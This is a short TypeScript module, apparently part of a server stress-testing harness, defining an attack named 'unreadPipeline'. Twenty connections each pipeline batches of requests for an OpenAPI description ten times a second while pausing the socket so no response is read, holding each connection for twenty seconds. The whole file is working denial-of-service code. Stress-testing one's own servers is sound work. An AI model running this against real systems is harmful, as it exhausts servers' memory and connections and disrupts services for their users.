import { setTimeout as delay } from 'node:timers/promises'
import { type Attack, scaled } from '../attack.ts'
import { connect, head, leave } from '../wire/connect.ts'
import { hold } from '../wire/hold.ts'

const BATCH = 50
const QUESTIONS = head('GET /api/openapi.json').repeat(BATCH)
const EVERY_MS = 100
const MOST_UNSENT = 256 * 1024
const HELD_MS = 20_000

export const unreadPipeline: Attack = {
  title:
    '20 connections that each ask 500 times a second for the description of the interface, and read nothing',
  begin(aim, tally) {
    hold(scaled(aim, 20), (number) => {
      const socket = connect(aim, tally, number)
      socket.pause()
      const send = setInterval(() => {
        if (socket.writableLength > MOST_UNSENT) return
        tally.did('requests', BATCH)
        socket.write(QUESTIONS)
      }, EVERY_MS)
      socket.once('close', () => clearInterval(send))
      void delay(HELD_MS).then(() => leave(socket))
      return socket
    })
  },
}
